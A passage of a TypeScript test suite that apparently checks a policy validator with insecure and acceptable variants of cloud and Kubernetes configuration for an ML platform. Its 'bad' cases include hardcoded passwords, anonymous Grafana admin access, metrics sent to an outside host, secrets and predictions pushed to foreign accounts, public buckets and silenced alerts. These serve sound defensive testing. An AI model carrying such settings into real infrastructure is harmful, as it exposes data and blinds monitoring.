  rules: [{ apiGroups: ["kueue.x-k8s.io"], resources: ["clusterqueues", "workloads"], verbs: ["get", "list", "watch"] }],
});
addOk(P, "eks/accessEntry:AccessEntry", "one more group of members", {
  clusterName: "millrace-prod",
  principalArn: `arn:aws:iam::${ME}:role/risk-analysts`,
  kubernetesGroups: ["risk-analysts"],
  type: "STANDARD",
});

// ---------------------------------------------------------------- queues
kind = "queues";
const gpuQueue = K(W, "kueue.x-k8s.io/v1beta2:ClusterQueue", "risk-queue-share");
gpuQueue.bad("takes jobs of all namespaces", (i) => (i.spec.namespaceSelector = {}));
gpuQueue.bad("ten times the GPUs of the pool", (i) => (i.spec.resourceGroups[0].flavors[0].resources[2].nominalQuota = "640"));
gpuQueue.bad("GPUs are not counted", (i) => {
  i.spec.resourceGroups[0].coveredResources = ["cpu", "memory"];
  i.spec.resourceGroups[0].flavors[0].resources.splice(2, 1);
});
gpuQueue.bad(
  "takes the GPUs of other teams away while borrowing",
  (i) => (i.spec.preemption.borrowWithinCohort = { policy: "LowerPriority", maxPriorityThreshold: 1000000 }),
);
gpuQueue.bad("holds and does not admit", (i) => (i.spec.stopPolicy = "HoldAndDrain"));
K(W, "core/v1:ResourceQuota", "risk-jobs-quota").bad(
  "GPUs are not limited",
  (i) => delete i.spec.hard["requests.nvidia.com/gpu"],
);
K(W, "core/v1:ResourceQuota", "risk-jobs-quota").bad("a thousand GPUs", (i) => (i.spec.hard["requests.nvidia.com/gpu"] = "1k"));
K(W, "core/v1:ResourceQuota", "risk-models-priorities").bad(
  "the quota of high priorities leaves one out",
  (i) => (i.spec.scopeSelector.matchExpressions[0].values = ["system-cluster-critical", "system-node-critical"]),
);
K(W, "core/v1:ResourceQuota", "risk-jobs-quota").bad("node ports are allowed", (i) => (i.spec.hard["services.nodeports"] = "5"));
K(P, "kueue.x-k8s.io/v1beta2:ResourceFlavor", "queues-flavor-training").bad(
  "the flavour lands on any node",
  (i) => delete i.spec.nodeLabels,
);
K(P, "kueue.x-k8s.io/v1beta2:ResourceFlavor", "queues-flavor-training").bad(
  "the flavour tolerates everything",
  (i) => (i.spec.tolerations = [{ operator: "Exists" }]),
);
K(P, "helm.sh/v3:Release", "queues-controller").bad("jobs without a queue are left alone", (i) => {
  const m = i.values.managerConfig;
  m.controllerManagerConfigYaml = swap(
    m.controllerManagerConfigYaml,
    '"manageJobsWithoutQueueName": true',
    '"manageJobsWithoutQueueName": false',
  );
});
K(W, "core/v1:ResourceQuota", "risk-jobs-quota").ok("fewer pods and a limit of claims", (i) =>
  Object.assign(i.spec.hard, { pods: "150", persistentvolumeclaims: "20" }),
);
K(W, "core/v1:ResourceQuota", "risk-jobs-quota").ok("quantities as numbers", (i) =>
  Object.assign(i.spec.hard, { pods: 200, "services.nodeports": 0 }),
);
gpuQueue.ok("a smaller share", (i) => {
  const r = i.spec.resourceGroups[0].flavors[0].resources;
  r[2].nominalQuota = "48";
});
gpuQueue.ok("first in, first out, strictly", (i) => (i.spec.queueingStrategy = "StrictFIFO"));
K(W, "core/v1:LimitRange", "risk-jobs-limits").ok(
  "defaults of limits as well",
  (i) => (i.spec.limits[0].default = { memory: "256Mi" }),
);
K(P, "kueue.x-k8s.io/v1beta2:WorkloadPriorityClass", "queues-priority-high").ok("a higher number", (i) => (i.value = 2000));
objOk(P, "kueue.x-k8s.io/v1beta2", "WorkloadPriorityClass", "a priority between", {
  metadata: { name: "normal" },
  value: 500,
  description: "normal priority in a queue",
});

// ---------------------------------------------------------------- charts
kind = "charts";
const release = (name: string) => K(P, "helm.sh/v3:Release", name);
release("mesh-istiod").bad(
  "a mirror of the charts that nobody knows",
  (i) => (i.repositoryOpts.repo = "https://charts.istio-mirror.dev/charts"),
);
release("monitoring-stack").bad("a range of versions", (i) => (i.version = "88.x"));
release("delivery-controller").bad(
  "the chart over plain HTTP",
  (i) => (i.repositoryOpts.repo = "http://argoproj.github.io/argo-helm"),
);
release("certificates-controller").bad(
  "an image of another registry",
  (i) => (i.values.image = { repository: "docker.io/someone/cert-manager-controller", tag: "v1.21.2" }),
);
release("external-secrets-controller").bad("pushes secrets out of the cluster", (i) => {
  i.values.processPushSecret = true;
  i.values.processClusterPushSecret = true;
});
release("mesh-istiod").bad("the mesh lets everything out", (i) => (i.values.meshConfig.outboundTrafficPolicy.mode = "ALLOW_ANY"));
release("gateway-proxy").bad("the gateway becomes a load balancer of its own", (i) => (i.values.service.type = "LoadBalancer"));
release("monitoring-stack").bad(
  "Grafana lets everyone in",
  (i) => (i.values.grafana["grafana.ini"]["auth.anonymous"] = { enabled: true, org_role: "Admin" }),
);
release("monitoring-stack").bad("Grafana's password in the values", (i) => (i.values.grafana.adminPassword = "prom-operator"));
release("monitoring-stack").bad("Prometheus forgets after a day", (i) => (i.values.prometheus.prometheusSpec.retention = "24h"));
release("monitoring-stack").bad(
  "Prometheus sees only rules with a label",
  (i) => (i.values.prometheus.prometheusSpec.ruleSelectorNilUsesHelmValues = true),
);
release("monitoring-stack").bad(
  "Prometheus keeps nothing over a restart",
  (i) => (i.values.prometheus.prometheusSpec.storageSpec = { emptyDir: { medium: "Memory" } }),
);
release("monitoring-stack").bad("admin API of Prometheus", (i) => (i.values.prometheus.prometheusSpec.enableAdminAPI = true));
release("monitoring-stack").bad("one Alertmanager and no alerts of it", (i) => {
  i.values.alertmanager.enabled = false;
});
release("monitoring-stack").bad(
  "sends metrics to a foreign endpoint",
  (i) => (i.values.prometheus.prometheusSpec.remoteWrite = [{ url: "http://metrics.example.net/api/v1/push" }]),
);
release("monitoring-stack").bad(
  "kube-state-metrics reads secrets",
  (i) => (i.values["kube-state-metrics"].collectorsExclude = ["configmaps"]),
);
release("pushgateway-server").bad("an admin API by an argument", (i) => i.values.extraArgs.push("--web.enable-admin-api"));
release("delivery-controller").bad("the dashboard, which has no login", (i) => (i.values.dashboard.enabled = true));
release("karpenter").bad("does not hear of interruptions", (i) => delete i.values.settings.interruptionQueue);
release("device-plugin").bad("a privileged container in the values", (i) => (i.values.securityContext = { privileged: true }));
release("queues-controller").bad("a single controller without a budget", (i) => {
  i.values.controllerManager.replicas = 1;
  i.values.controllerManager.podDisruptionBudget.enabled = false;
});
release("external-secrets-controller").bad(
  "no verification of the chart's webhook, fails open",
  (i) => (i.values.webhook.failurePolicy = "Ignore"),
);
release("mesh-istiod").bad("passwords of a registry in the clear", (i) =>
  Object.assign(i.repositoryOpts, { username: "deploy", password: "S3cr3t-Pa55word" }),
);
objBad(P, "helm.sh/v3", "Release", "a chart of a person's own page", {
  version: "6.0.8",
  chart: "kubernetes-dashboard",
  name: "dashboard",
  namespace: "kube-system",
  repositoryOpts: { repo: "https://someone.github.io/charts" },
  values: {},
});
release("monitoring-stack").ok("remembers for 60 days on a larger disk", (i) => {
  const s = i.values.prometheus.prometheusSpec;
  s.retention = "60d";
  s.retentionSize = "350GiB";
  s.storageSpec.volumeClaimTemplate.spec.resources.requests.storage = "450Gi";
});
release("monitoring-stack").ok("three replicas of Prometheus", (i) => (i.values.prometheus.prometheusSpec.replicas = 3));
release("monitoring-stack").ok(
  "Grafana's anonymous access off, said aloud",
  (i) => (i.values.grafana["grafana.ini"]["auth.anonymous"] = { enabled: false }),
);
release("monitoring-stack").ok("scrapes every 15 seconds", (i) => {
  i.values.prometheus.prometheusSpec.scrapeInterval = "15s";
  i.values.prometheus.prometheusSpec.evaluationInterval = "15s";
});
release("mesh-istiod").ok("more memory", (i) => {
  i.values.resources.limits.memory = "4Gi";
  i.values.resources.requests.memory = "1Gi";
});
release("mesh-istiod").ok("a trailing slash in the repository", (i) => (i.repositoryOpts.repo += "/"));
release("gateway-proxy").ok("from four to ten gateways", (i) =>
  Object.assign(i.values.autoscaling, { minReplicas: 4, maxReplicas: 10 }),
);
release("karpenter").ok("three replicas", (i) => (i.values.replicas = 3));
release("certificates-controller").ok("logs in JSON", (i) => (i.values.extraArgs = ["--logging-format=json"]));
release("delivery-controller").ok("requeues more often", (i) => i.values.controller.extraArgs.push("--rollout-resync=300"));

// ---------------------------------------------------------------- alerts
kind = "alerts";
const modelRules = K(W, "monitoring.coreos.com/v1:PrometheusRule", "fraud-monitoring-rules");
const alert = (i: any, name: string, n = 0) => {
  const found = i.spec.groups.flatMap((g: any) => g.rules).filter((r: any) => r.alert === name)[n];
  if (!found) throw new Error(`no alert ${name}`);
  return found;
};
modelRules.bad("latency alert waits a day", (i) => (alert(i, "ModelLatencyHigh").for = "1d"));
modelRules.bad("critical error alert is information", (i) => (alert(i, "ModelErrorRateHigh", 1).labels.severity = "info"));
modelRules.bad(
  "errors above 100% only",
  (i) => (alert(i, "ModelErrorRateHigh", 1).expr = swap(alert(i, "ModelErrorRateHigh", 1).expr, "> 0.05", "> 5")),
);
modelRules.bad(
  "drift compares the wrong way",
  (i) => (alert(i, "DataDrift", 1).expr = swap(alert(i, "DataDrift", 1).expr, "> 0.25", "< 0.25")),
);
modelRules.bad("latency alert is joined with nothing", (i) => (alert(i, "ModelLatencyHigh").expr += " and on() vector(0) > 1"));
modelRules.bad(
  "traffic alert looks at another model",
  (i) => (alert(i, "ModelTrafficLost").expr = swap(alert(i, "ModelTrafficLost").expr, 'model="fraud"', 'model="churn"')),
);
modelRules.bad("the alert of failed releases is gone", (i) => {
  for (const g of i.spec.groups) g.rules = g.rules.filter((r: any) => r.alert !== "ReleaseFailed");
});
modelRules.bad("the error ratio is recorded as zero", (i) => {
  for (const g of i.spec.groups) for (const r of g.rules) if (r.record === "mlops:serving_errors:ratio75s") r.expr = "vector(0)";
});
modelRules.bad("a rule group that is evaluated once a day", (i) => (i.spec.groups[2].interval = "24h"));
K(P, "monitoring.coreos.com/v1:PrometheusRule", "rules-mesh").bad(
  "the alert of the control plane never fires",
  (i) => (i.spec.groups[0].rules[0].expr = "absent(up) == 2"),
);
K(P, "core/v1:Secret", "monitoring-alert-routes").bad("critical alerts go to nobody", (i) => {
  const s = i.stringData.value ?? i.stringData;
  const y = JSON.parse(s["alertmanager.yaml"]);
  y.route.routes[2].receiver = "nobody";
  s["alertmanager.yaml"] = JSON.stringify(y);
});
K(P, "core/v1:Secret", "monitoring-alert-routes").bad("a route before all swallows the model alerts", (i) => {
  const s = i.stringData.value ?? i.stringData;
  const y = JSON.parse(s["alertmanager.yaml"]);
  y.route.routes.unshift({ receiver: "nobody", matchers: ['namespace =~ "models-.*"'] });
  s["alertmanager.yaml"] = JSON.stringify(y);
});
K(P, "core/v1:Secret", "monitoring-alert-routes").bad("an inhibition that silences everything while Watchdog fires", (i) => {
  const s = i.stringData.value ?? i.stringData;
  const y = JSON.parse(s["alertmanager.yaml"]);
  y.inhibit_rules.push({ source_matchers: ['alertname = "Watchdog"'], target_matchers: ['severity =~ "critical|warning"'] });
  s["alertmanager.yaml"] = JSON.stringify(y);
});
K(W, "monitoring.coreos.com/v1:PodMonitor", "fraud-monitor").bad(
  "the monitor selects pods that do not exist",
  (i) => (i.spec.selector.matchLabels.app = "fraud-model"),
);
K(W, "monitoring.coreos.com/v1:PodMonitor", "fraud-monitor").bad(
  "the monitor drops the model's metrics",
  (i) => (i.spec.podMetricsEndpoints[0].metricRelabelings = [{ action: "drop", sourceLabels: ["__name__"], regex: "mlops_.*" }]),
);
K(P, "monitoring.coreos.com/v1:PodMonitor", "gateway-monitor").bad(
  "keeps only what nobody asks",
  (i) => (i.spec.podMetricsEndpoints[0].metricRelabelings[0].regex = "envoy_server_.*"),
);
K(P, "monitoring.coreos.com/v1:ServiceMonitor", "tracking-monitor").bad("Prometheus sends its own token to the server", (i) => {
  for (const e of i.spec.endpoints) e.bearerTokenFile = "/var/run/secrets/kubernetes.io/serviceaccount/token";
});
modelRules.ok(
  "latency alert is more strict",
  (i) => (alert(i, "ModelLatencyHigh").expr = swap(alert(i, "ModelLatencyHigh").expr, "> 0.05", "> 0.03")),
);
modelRules.ok("waits three minutes instead of five", (i) => (alert(i, "ModelErrorRateHigh", 1).for = "3m"));
modelRules.ok("one more label of the team", (i) => (alert(i, "ModelLatencyHigh").labels.team = "risk"));
modelRules.ok(
  "another wording",
  (i) => (alert(i, "ModelLatencyHigh").annotations.summary = "The model {{ $labels.model }} is slow"),
);
K(W, "monitoring.coreos.com/v1:PodMonitor", "fraud-monitor").ok("every 10 seconds with a timeout", (i) =>
  Object.assign(i.spec.podMetricsEndpoints[0], { interval: "10s", scrapeTimeout: "5s" }),
);
objOk(W, "monitoring.coreos.com/v1", "PrometheusRule", "one more alert of the team", {
  metadata: { name: "fraud-extra", namespace: "models-risk" },
  spec: {
    groups: [
      {
        name: "fraud-extra",
        rules: [
          {
            alert: "FraudQueueLong",
            expr: 'max(fraud_queue_length{namespace="models-risk"}) > 1000',
            for: "10m",
            labels: { severity: "warning", category: "infrastructure", environment: "prod" },
            annotations: {
              summary: "The queue is long",
              description: "More than 1000 wait.",
              runbook_url: "https://github.com/example/millrace/blob/main/docs/runbooks/FraudQueueLong.md",
            },
          },
        ],
      },
    ],
  },
});
K(P, "core/v1:Secret", "monitoring-alert-routes").ok("repeats warnings every two hours", (i) => {
  const s = i.stringData.value ?? i.stringData;
  const y = JSON.parse(s["alertmanager.yaml"]);
  y.route.repeat_interval = "2h";
  s["alertmanager.yaml"] = JSON.stringify(y);
});

// ---------------------------------------------------------------- networks
kind = "networks";
const endpointTags = { Name: "network-endpoints-ecr" };
A(F, "ec2/flowLog:FlowLog", "network-flows").bad("only what is accepted is logged", (i) => (i.trafficType = "ACCEPT"));
A(F, "ec2/flowLog:FlowLog", "network-flows").gone("flow logs are gone");
A(F, "ec2/defaultSecurityGroup:DefaultSecurityGroup", "network-default").bad(
  "the default group lets its members talk",
  (i) => (i.ingress = [{ protocol: "-1", fromPort: 0, toPort: 0, self: true }]),
);
addBad(F, "ec2/route:Route", "the databases' subnets get a way out", {
  routeTableId: "rtb-09fdb9268945514ac",
  destinationCidrBlock: "0.0.0.0/0",
  natGatewayId: "nat-3cb170fff99b7ebb4",
});
addBad(F, "ec2/routeTableAssociation:RouteTableAssociation", "a private subnet uses the public routes", {
  routeTableId: "rtb-a5cf9994de4523bb3",
  subnetId: PRIVATE[1],
});
A(P, "lb/loadBalancer:LoadBalancer", "ingress").bad("faces the internet, with access logs", (i) => {
  i.internal = false;
  i.accessLogs = { bucket: LOGS, prefix: "balancer", enabled: true };
});
A(P, "lb/loadBalancer:LoadBalancer", "ingress").bad("in a public subnet without a security group", (i) => {
  i.subnets = [PUBLIC_A];
  i.securityGroups = [];
});
A(P, "lb/listener:Listener", "ingress-https").bad("listens on port 80", (i) => (i.port = 80));
addBad(P, "lb/listener:Listener", "a TLS listener with an old policy", {
  loadBalancerArn: `arn:aws:elasticloadbalancing:${REGION}:${ME}:loadbalancer/net/millrace-prod-models/e7048fc74add587b`,
  port: 8443,
  protocol: "TLS",
  sslPolicy: "ELBSecurityPolicy-TLS-1-0-2015-04",
  certificateArn: `arn:aws:acm:${REGION}:${ME}:certificate/1`,
  defaultActions: [
    {
      type: "forward",
      targetGroupArn: `arn:aws:elasticloadbalancing:${REGION}:${ME}:targetgroup/ingress-nodes-33bc638/33bc638903c67a56`,
    },
  ],
});
addBad(F, "ec2/vpcPeeringConnection:VpcPeeringConnection", "peers with a foreign account's network", {
  vpcId: VPC,
  peerVpcId: "vpc-0123",
  peerOwnerId: "888888888888",
  autoAccept: false,
});
addBad(F, "ec2/vpcEndpointService:VpcEndpointService", "an endpoint service for everybody, accepted by itself", {
  acceptanceRequired: false,
  allowedPrincipals: ["*"],
  networkLoadBalancerArns: [
    `arn:aws:elasticloadbalancing:${REGION}:${ME}:loadbalancer/net/millrace-prod-models/e7048fc74add587b`,
  ],
});
K(P, "networking.istio.io/v1:Gateway", "gateway-listeners").bad("one more server without TLS", (i) =>
  i.spec.servers.push({ hosts: ["metrics.models.internal"], port: { name: "http-metrics", number: 8081, protocol: "HTTP" } }),
);
K(P, "networking.istio.io/v1:Gateway", "gateway-listeners").bad(
  "TLS 1.0 is enough",
  (i) => (i.spec.servers[1].tls.minProtocolVersion = "TLSV1_0"),
);
K(P, "networking.k8s.io/v1:NetworkPolicy", "tracking-traffic").bad("every namespace may come in", (i) =>
  i.spec.ingress[0].from.push({ namespaceSelector: {} }),
);
K(P, "networking.k8s.io/v1:NetworkPolicy", "tracking-deny").bad("denies ingress only", (i) => (i.spec.policyTypes = ["Ingress"]));
K(W, "networking.k8s.io/v1:NetworkPolicy", "risk-models-default-deny").bad(
  "selects no pod",
  (i) => (i.spec.podSelector = { matchLabels: { deny: "yes" } }),
);
K(W, "networking.k8s.io/v1:NetworkPolicy", "fraud-reach").bad("a rule of ingress without a sender", (i) =>
  i.spec.ingress.push({ ports: [{ port: 8080, protocol: "TCP" }] }),
);
K(P, "core/v1:Service", "tracking-service").bad("MLflow gets a load balancer of its own on the internet", (i) => {
  i.spec.type = "LoadBalancer";
  i.metadata.annotations = { "service.beta.kubernetes.io/aws-load-balancer-scheme": "internet-facing" };
});
K(P, "core/v1:Service", "tracking-service").bad("external addresses", (i) => (i.spec.externalIPs = ["10.30.0.55"]));
objBad(P, "networking.k8s.io/v1", "Ingress", "an Ingress without TLS on the internet", {
  metadata: { name: "mlflow", namespace: "mlflow", annotations: { "alb.ingress.kubernetes.io/scheme": "internet-facing" } },
  spec: {
    ingressClassName: "alb",
    rules: [
      {
        host: "mlflow.example.com",
        http: { paths: [{ path: "/", pathType: "Prefix", backend: { service: { name: "mlflow", port: { number: 80 } } } }] },
      },
    ],
  },
});
objBad(P, "networking.istio.io/v1", "ServiceEntry", "every host of the internet is part of the mesh", {
  metadata: { name: "all", namespace: "istio-system" },
  spec: {
    hosts: ["*.com"],
    location: "MESH_EXTERNAL",
    ports: [{ number: 443, name: "tls", protocol: "TLS" }],
    resolution: "NONE",
  },
});
addOk(F, "ec2/vpcEndpoint:VpcEndpoint", "a private endpoint of ECR", {
  vpcId: VPC,
  serviceName: `com.amazonaws.${REGION}.ecr.api`,
  vpcEndpointType: "Interface",
  privateDnsEnabled: true,
  securityGroupIds: [ENDPOINTS_SG],
  subnetIds: INTRA,
  tags: endpointTags,
});
addOk(F, "ec2/vpcEndpoint:VpcEndpoint", "a gateway endpoint of DynamoDB for our account", {
  vpcId: VPC,
  serviceName: `com.amazonaws.${REGION}.dynamodb`,
  vpcEndpointType: "Gateway",
  routeTableIds: ["rtb-1fd6b925fa9f2b5be"],
  policy: doc({
    Sid: "Ours",
    Effect: "Allow",
    Principal: "*",
    Action: ["dynamodb:*"],
    Resource: ["*"],
    Condition: { StringEquals: { "aws:PrincipalAccount": ME, "aws:ResourceAccount": ME } },
  }),
  tags: { Name: "network-dynamodb" },
});
addOk(F, "ec2/securityGroup:SecurityGroup", "a group without rules", {
  vpcId: VPC,
  description: "Feature store: reached by the cluster",
  tags: { Name: "features" },
});
A(F, "ec2/flowLog:FlowLog", "network-flows").ok("every minute", (i) => (i.maxAggregationInterval = 60));
A(F, "ec2/subnet:Subnet", "network-public-b").ok("a label of its purpose", (i) => (i.tags.purpose = "nat"));
A(P, "lb/targetGroup:TargetGroup", "ingress-nodes").ok("more careful health checks", (i) =>
  Object.assign(i.healthCheck, { healthyThreshold: 3, unhealthyThreshold: 3, interval: 15 }),
);
A(P, "lb/loadBalancer:LoadBalancer", "ingress").ok(
  "access logs",
  (i) => (i.accessLogs = { bucket: LOGS, prefix: "balancer", enabled: true }),
);
K(P, "networking.istio.io/v1:Gateway", "gateway-listeners").ok(
  "TLS 1.3",
  (i) => (i.spec.servers[1].tls.minProtocolVersion = "TLSV1_3"),
);
K(P, "networking.istio.io/v1:VirtualService", "grafana-route-service").ok("a timeout", (i) => (i.spec.http[0].timeout = "30s"));
objOk(P, "security.istio.io/v1", "AuthorizationPolicy", "denies one path", {
  metadata: { name: "no-metrics", namespace: "istio-ingress" },
  spec: {
    selector: { matchLabels: { istio: "ingress" } },
    action: "DENY",
    rules: [{ to: [{ operation: { paths: ["/metrics"] } }] }],
  },
});
objOk(P, "security.istio.io/v1", "PeerAuthentication", "strict mTLS of the mesh", {
  metadata: { name: "default", namespace: "istio-system" },
  spec: { mtls: { mode: "STRICT" } },
});
objOk(P, "networking.istio.io/v1", "ServiceEntry", "one host outside", {
  metadata: { name: "pager", namespace: "istio-system" },
  spec: {
    hosts: ["pager.example.com"],
    location: "MESH_EXTERNAL",
    ports: [{ number: 443, name: "tls", protocol: "TLS" }],
    resolution: "DNS",
  },
});

// ---------------------------------------------------------------- databases
kind = "databases";
A(F, "rds/parameterGroup:ParameterGroup", "tracking-database-parameters").bad(
  "TLS is not forced, in a word",
  (i) => (i.parameters[0].value = "off"),
);
A(F, "rds/parameterGroup:ParameterGroup", "tracking-database-parameters").bad("TLS 1.0 from clients", (i) =>
  i.parameters.push({ name: "ssl_min_protocol_version", value: "TLSv1" }),
);
A(F, "rds/subnetGroup:SubnetGroup", "tracking-database-subnets").bad("in a public subnet", (i) => i.subnetIds.push(PUBLIC_A));
db.bad("a password in the program", (i) => {
  delete i.manageMasterUserPassword;
  i.password = "Winter2026!";
});
db.bad("one zone", (i) => (i.multiAz = false));
db.bad("the last snapshot is skipped", (i) => {
  i.skipFinalSnapshot = true;
  delete i.finalSnapshotIdentifier;
});
db.bad("automated backups go with the instance, and logs do not leave", (i) => {
  i.deleteAutomatedBackups = true;
  i.enabledCloudwatchLogsExports = [];
});
db.bad("an engine out of support", (i) => (i.engineVersion = "11.22"));
db.bad("applies everything at once in the day", (i) => {
  i.allowMajorVersionUpgrade = true;
  i.applyImmediately = true;
  i.engineVersion = "18.1";
});
addBad(F, "rds/instance:Instance", "a second database, without anything", {
  engine: "postgres",
  engineVersion: "17.7",
  instanceClass: "db.t4g.micro",
  allocatedStorage: 20,
  username: "features",
  manageMasterUserPassword: true,
  skipFinalSnapshot: true,
});
addBad(F, "rds/snapshotCopy:SnapshotCopy", "a copy of the snapshot in another region, shared", {
  sourceDbSnapshotIdentifier: "s",
  targetDbSnapshotIdentifier: "t",
  destinationRegion: "us-east-1",
  sharedAccounts: ["all"],
});
addBad(F, "rds/cluster:Cluster", "an Aurora cluster in the clear", {
  engine: "aurora-postgresql",
  masterUsername: "root",
  manageMasterUserPassword: true,
  storageEncrypted: false,
  deletionProtection: true,
  backupRetentionPeriod: 35,
  vpcSecurityGroupIds: [DB_SG],
  dbSubnetGroupName: "millrace-prod-tracking-database-subnets-ca53165",
  skipFinalSnapshot: false,
  finalSnapshotIdentifier: "x",
});
addBad(F, "elasticache/replicationGroup:ReplicationGroup", "Redis without encryption and password", {
  description: "features",
  nodeType: "cache.m7g.large",
  numCacheClusters: 2,
  atRestEncryptionEnabled: false,
  transitEncryptionEnabled: false,
});
addBad(F, "dynamodb/table:Table", "a table without recovery and protection", {
  name: "features",
  billingMode: "PAY_PER_REQUEST",
  hashKey: "id",
  attributes: [{ name: "id", type: "S" }],
  pointInTimeRecovery: { enabled: false },
  deletionProtectionEnabled: false,
});
addBad(F, "opensearch/domain:Domain", "a search domain open by its policy", {
  domainName: "logs",
  engineVersion: "OpenSearch_2.17",
  encryptAtRest: { enabled: true },
  nodeToNodeEncryption: { enabled: true },
  domainEndpointOptions: { enforceHttps: true, tlsSecurityPolicy: "Policy-Min-TLS-1-2-2019-07" },
  accessPolicies: doc({ Effect: "Allow", Principal: { AWS: "*" }, Action: "es:*", Resource: "*" }),
});
db.ok("a larger class", (i) => (i.instanceClass = "db.m7g.xlarge"));
db.ok("more room and insight for two years", (i) =>
  Object.assign(i, { allocatedStorage: 200, maxAllocatedStorage: 1000, performanceInsightsRetentionPeriod: 731 }),
);
db.ok("another window", (i) => Object.assign(i, { backupWindow: "00:30-01:30", maintenanceWindow: "tue:02:30-tue:03:30" }));
db.ok("the newer authority", (i) => (i.caCertIdentifier = "rds-ca-ecc384-g1"));
A(F, "rds/parameterGroup:ParameterGroup", "tracking-database-parameters").ok("logs connections and slow statements", (i) =>
  i.parameters.push({ name: "log_connections", value: "1" }, { name: "log_min_duration_statement", value: "1000" }),
);
addOk(F, "dynamodb/table:Table", "a table as it should be", {
  name: "millrace-prod-features",
  billingMode: "PAY_PER_REQUEST",
  hashKey: "id",
  attributes: [{ name: "id", type: "S" }],
  pointInTimeRecovery: { enabled: true },
  deletionProtectionEnabled: true,
  serverSideEncryption: { enabled: true, kmsKeyArn: DATA_KEY },
});
addOk(F, "elasticache/replicationGroup:ReplicationGroup", "Redis as it should be", {
  replicationGroupId: "millrace-prod-features",
  description: "features",
  engine: "valkey",
  nodeType: "cache.m7g.large",
  numCacheClusters: 3,
  multiAzEnabled: true,
  automaticFailoverEnabled: true,
  atRestEncryptionEnabled: true,
  kmsKeyId: DATA_KEY,
  transitEncryptionEnabled: true,
  transitEncryptionMode: "required",
  userGroupIds: ["millrace"],
  snapshotRetentionLimit: 14,
  subnetGroupName: "features",
  securityGroupIds: ["sg-0features0000000"],
});

// ---------------------------------------------------------------- buckets and keys
kind = "buckets-keys";
const sse = (name: string) =>
  A(F, "s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration", `${name}-encryption`);
sse("predictions").bad(
  "predictions under a key of AWS",
  (i) => (i.rules[0].applyServerSideEncryptionByDefault = { sseAlgorithm: "aws:kms", kmsMasterKeyId: "alias/aws/s3" }),
);
sse("models").bad(
  "a key of another account",
  (i) => (i.rules[0].applyServerSideEncryptionByDefault.kmsMasterKeyId = `arn:aws:kms:${REGION}:999999999999:key/1`),
);
A(F, "s3/bucketVersioning:BucketVersioning", "models-versions").bad(
  "versions suspended",
  (i) => (i.versioningConfiguration.status = "Suspended"),
);
A(F, "s3/bucketVersioning:BucketVersioning", "artifacts-versions").gone("the artifacts have no versions");
A(F, "s3/bucketOwnershipControls:BucketOwnershipControls", "data-owner").bad(
  "ACLs are back",
  (i) => (i.rule.objectOwnership = "ObjectWriter"),
);
A(F, "s3/bucketLogging:BucketLogging", "predictions-access-log").gone("accesses to predictions are not logged");
A(F, "s3/bucketLogging:BucketLogging", "models-access-log").bad(
  "access logs go into the bucket itself",
  (i) => (i.targetBucket = MODELS),
);
A(F, "s3/bucketObjectLockConfiguration:BucketObjectLockConfiguration", "audit-lock").bad(
  "audit files are locked for a day",
  (i) => (i.rule.defaultRetention = { mode: "GOVERNANCE", days: 1 }),
);
A(F, "s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration", "models-lifecycle").bad("models expire after a week", (i) =>
  i.rules.push({ id: "tidy", status: "Enabled", filter: { prefix: "models/" }, expiration: { days: 7 } }),
);
A(F, "s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration", "predictions-lifecycle").bad(
  "personal data are kept for ever",
  (i) => (i.rules[1].status = "Disabled"),
);
A(F, "s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration", "artifacts-lifecycle").bad(
  "old versions go after a day",
  (i) => (i.rules[0].noncurrentVersionExpiration.noncurrentDays = 1),
);
addBad(F, "s3/bucketAcl:BucketAcl", "an ACL for everybody", { bucket: DATA, acl: "public-read" });
addBad(F, "s3/bucketWebsiteConfiguration:BucketWebsiteConfiguration", "a website of the artifacts", {
  bucket: ARTIFACTS,
  indexDocument: { suffix: "index.html" },
});
addBad(
  F,
  "s3/bucketReplicationConfig:BucketReplicationConfig",
  "predictions are copied to a foreign account and another region",
  {
    bucket: PREDICTIONS,
    role: `arn:aws:iam::${ME}:role/replicate`,
    rules: [
      {
        id: "all",
        status: "Enabled",
        filter: { prefix: "" },
        destination: { bucket: "arn:aws:s3:::partner-copy", account: "666666666666" },
        deleteMarkerReplication: { status: "Disabled" },
      },
    ],
  },
);
addBad(F, "s3/bucketCorsConfiguration:BucketCorsConfiguration", "any origin writes", {
  bucket: MODELS,
  corsRules: [{ allowedOrigins: ["*"], allowedMethods: ["GET", "PUT"], allowedHeaders: ["*"] }],
});
addBad(F, "kms/key:Key", "a key without rotation that may be gone in a week", {
  description: "features",
  enableKeyRotation: false,
  deletionWindowInDays: 7,
});
addBad(F, "s3/bucketObject:BucketObject", "an object of everybody", {
  bucket: ARTIFACTS,
  key: "install.sh",
  acl: "public-read",
  content: "#!/bin/sh",
});
kms("data").bad("disabled", (i) => (i.isEnabled = false));
A(F, "kms/alias:Alias", "database-key-alias").bad(
  "the alias of the database's key points at that of the logs",
  (i) => (i.targetKeyId = "bd91887f-0224-3210-dccd-57a153e7c7d6"),
);
A(F, "s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration", "data-lifecycle").ok(
  "snapshots are kept for half a year",
  (i) => (i.rules[3].expiration.days = 180),
);
A(F, "s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration", "artifacts-lifecycle").ok(
  "old versions are kept for 90 days",
  (i) => (i.rules[0].noncurrentVersionExpiration.noncurrentDays = 90),
);
A(F, "s3/bucketObjectLockConfiguration:BucketObjectLockConfiguration", "models-lock").ok(
  "locked in compliance, for longer",
  (i) => (i.rule.defaultRetention = { mode: "COMPLIANCE", days: 180 }),
);
A(F, "s3/bucketObjectLockConfiguration:BucketObjectLockConfiguration", "audit-lock").ok(
  "a year instead of 365 days",
  (i) => (i.rule.defaultRetention = { mode: "COMPLIANCE", years: 1 }),
);
sse("data").ok(
  "double encryption with our key",
  (i) => (i.rules[0].applyServerSideEncryptionByDefault.sseAlgorithm = "aws:kms:dsse"),
);
A(F, "s3/bucket:Bucket", "artifacts").ok("a tag", (i) => (i.tags = { ...i.tags, purpose: "training" }));
addOk(F, "s3/bucketMetric:BucketMetric", "metrics of requests", { bucket: DATA, name: "all" });
addOk(
  F,
  "s3/bucketIntelligentTieringConfiguration:BucketIntelligentTieringConfiguration",
  "archives artifacts that nobody reads",
  { bucket: ARTIFACTS, name: "archive", tierings: [{ accessTier: "ARCHIVE_ACCESS", days: 180 }] },
);
addOk(F, "kms/key:Key", "one more key, well made", {
